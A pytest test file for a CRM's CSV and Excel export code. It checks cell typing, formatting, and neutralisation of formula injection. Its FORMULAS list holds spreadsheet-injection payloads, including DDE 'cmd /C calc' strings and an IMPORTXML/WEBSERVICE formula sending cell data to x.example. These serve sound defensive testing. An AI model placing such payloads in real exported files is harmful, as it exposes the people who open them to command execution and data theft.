"""Writing tables: typed cells, and text that never runs."""

import csv
import io
from datetime import UTC, date, datetime, time
from decimal import Decimal

import openpyxl
import pytest
from django.http import HttpResponse
from django.utils import translation
from django.utils.translation import gettext_lazy
from hypothesis import given, settings
from hypothesis import strategies as st

from crm.spreadsheet import neutralise, restore, write_csv, write_xlsx
from crm.tabular import read_table

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1",
    "\u3000=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", ";=1+1", ",=1+1", '"=1+1', "'=1+1", "|=1+1", "`=1+1",
    "\u202e=1+1",     "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://x.example","open")',
    "=DDE(\"cmd\";\"/C calc\")",
    "-2+3+cmd|' /C calc'!A0", '+WEBSERVICE("http://x.example")', "=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")",
    "\t\t \u200d\u00a0-A1", "﹦1+1", "﹢A1", "=", "+86-138-0000-1402",
]  # fmt: skip
HARMLESS = [
    "", "王建国", "-1", "-3,800,000.50", "+86 138 0000 1402", "+8613800001402", "000001", "12%", "-5%", "a=b", "1+1",
    "（集团）", "—", "--", "…", "'quoted'", "O'Neil", "100", "3.5", "北京-上海",
]  # fmt: skip


def written_book(headers, rows, **options):
    target = io.BytesIO()
    count = write_xlsx(target, headers, rows, **{"title": "客户", **options})
    assert count == len(rows)
    return openpyxl.load_workbook(io.BytesIO(target.getvalue()))


def written_csv(headers, rows):
    target = io.BytesIO()
    assert write_csv(target, headers, rows) == len(rows)
    return target.getvalue()


def test_cells_keep_their_types_and_the_heading_stays_in_sight():
    moment = datetime(2026, 11, 24, 0, 30, tzinfo=UTC)
    rows = [
        [
            "王建国",
            12,
            Decimal("3800000.5"),
            date(2026, 11, 24),
            moment,
            time(8, 30),
            True,
            None,
            gettext_lazy("Monday"),
        ]
    ]
    with translation.override("en"):
        book = written_book(["姓名", "n", "amount", "day", "moment", "time", "yes", "none", "lazy"], rows)
    sheet = book.active
    assert (sheet.title, sheet.freeze_panes, sheet.auto_filter.ref) == ("客户", "A2", "A1:I2")
    assert sheet["A1"].font.bold
    values = [cell.value for cell in sheet[2]]
    assert values[:4] == ["王建国", 12, 3800000.5, datetime(2026, 11, 24)]  # noqa: DTZ001
    assert values[4] == datetime(2026, 11, 24, 8, 30)  # noqa: DTZ001 - the wall time of the current zone
    assert values[5:] == [time(8, 30), True, None, "Monday"]
    assert sheet["D2"].number_format == "yyyy-mm-dd"


def test_formats_by_column_and_widths_by_content():
    book = written_book(
        ["amount", "客户名称"], [[Decimal("3800000"), "中国移动通信集团有限公司"]], formats=["#,##0.00"]
    )
    assert book.active["A2"].number_format == "#,##0.00"
    assert book.active.column_dimensions["B"].width == 26
    assert book.active.column_dimensions["A"].width == 9


def test_numbers_a_spreadsheet_would_round_are_written_as_text():
    book = written_book(
        ["n"], [[12345678901234567], [Decimal("1234567890123456.7891")], [float("nan")], [Decimal("NaN")]]
    )
    assert [cell.value for cell in book.active["A"][1:]] == ["12345678901234567", "1234567890123456.7891", "nan", "NaN"]


@pytest.mark.parametrize("text", [*FORMULAS, *HARMLESS, "#N/A", "#REF!"])
def test_text_is_never_a_formula_in_a_workbook(text):
    book = written_book([text or "x", "b"], [[text, "x"], ["a", text]], formats=[None, "0.00"])
    cells = [book.active["A1"], book.active["A2"], book.active["B3"]]
    assert {cell.data_type for cell in cells} <= {"s", "inlineStr", "n"}
    assert all(cell.data_type != "n" or cell.value is None for cell in cells)
    expected = text.replace("\r", "\n") or None
    assert book.active["A2"].value in (text or None, expected, (text or "").replace("\r", "_x000D_") or None)


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_could_run_is_neutralised_in_csv_and_comes_back(text):
    data = written_csv(["note"], [[text]])
    raw = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1][0]
    assert raw == "'" + text
    assert [row.cells for row in read_table(data, "x.csv").rows] == [[text]]


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_phones_and_names_are_left_alone(text):
    assert neutralise(text) == text
    assert restore(text) == text


def test_a_csv_is_what_excel_expects():
    rows = [
        ["王,建国", Decimal("-1.50"), date(2026, 11, 24), datetime(2026, 11, 24, 0, 30, tzinfo=UTC), None, False, 'a"b']
    ]
    data = written_csv(["姓名", "n", "day", "moment", "none", "no", "quote"], rows)
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig").splitlines()[1] == (
        '"王,建国","-1.50","2026-11-24","2026-11-24 08:30","","FALSE","a""b"'
    )


def test_both_write_to_a_path(tmp_path):
    write_csv(tmp_path / "a.csv", ["a"], [["1"]])
    write_xlsx(str(tmp_path / "a.xlsx"), ["a"], [["1"]], title="a/b[c]:" + "长" * 40)
    assert (tmp_path / "a.csv").read_bytes() == b'\xef\xbb\xbf"a"\r\n"1"\r\n'
    assert openpyxl.load_workbook(tmp_path / "a.xlsx").sheetnames == ["a b c " + " " + "长" * 24]


def test_both_write_into_a_response():
    answer = HttpResponse()
    write_csv(answer, ["a"], [["1"]])
    assert answer.content == b'\xef\xbb\xbf"a"\r\n"1"\r\n'
    answer = HttpResponse()
    write_xlsx(answer, ["a"], [["1"]], title="a")
    assert openpyxl.load_workbook(io.BytesIO(answer.content)).active["A2"].value == "1"


def test_rows_are_written_as_they_come():
    seen = []

    def rows():
        for n in range(300):
            seen.append(n)
            yield [n, f"客户{n}"]

    target = io.BytesIO()
    assert write_xlsx(target, ["n", "name"], rows(), title="") == 300
    assert len(seen) == 300


CELLS = st.text(st.characters(exclude_categories=["Cs"]), max_size=20) | st.sampled_from(FORMULAS + HARMLESS)


@pytest.mark.property
@given(CELLS)
def test_restore_undoes_neutralise(text):
    assert restore(neutralise(text)) == text
    assert neutralise(text) in (text, "'" + text)


@pytest.mark.property
@settings(max_examples=60)
@given(st.lists(CELLS.filter(lambda text: text.strip()), min_size=2, max_size=5))
def test_what_is_exported_reads_back(texts):
    clean = [text for text in texts if text.isprintable()]
    row = [f"{text}x" for text in clean] + ["end", "end"]
    headers = [f"h{n}" for n in range(len(row))]
    assert [found.cells for found in read_table(written_csv(headers, [row]), "x.csv").rows] == [row]
    target = io.BytesIO()
    write_xlsx(target, headers, [row], title="x")
    assert [found.cells for found in read_table(target.getvalue(), "x.xlsx").rows] == [row]


@pytest.mark.property
@settings(max_examples=40)
@given(st.lists(st.text(max_size=8), min_size=1, max_size=4))
def test_any_text_can_be_written(texts):
    written_book(["a"], [[text] for text in texts])
    written_csv(["a"], [[text] for text in texts])
